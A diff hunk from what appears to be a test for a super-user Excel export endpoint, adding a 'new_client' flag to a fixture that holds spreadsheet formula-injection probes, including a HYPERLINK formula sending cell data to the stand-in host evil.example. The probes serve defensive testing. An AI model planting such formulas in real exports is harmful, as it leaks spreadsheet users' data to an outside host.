@@ -270,6 +270,7 @@ describe('GET /api/user?report=1 (Excel export, super only)', () => {
       email: 'formula.probe@example.test',
       street: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
       company_name: '@SUM(1+1)',
+      new_client: true,
       company_email: 'probe@example.test',
     })
     expect(view.clientName).toBe('@SUM(1+1)')
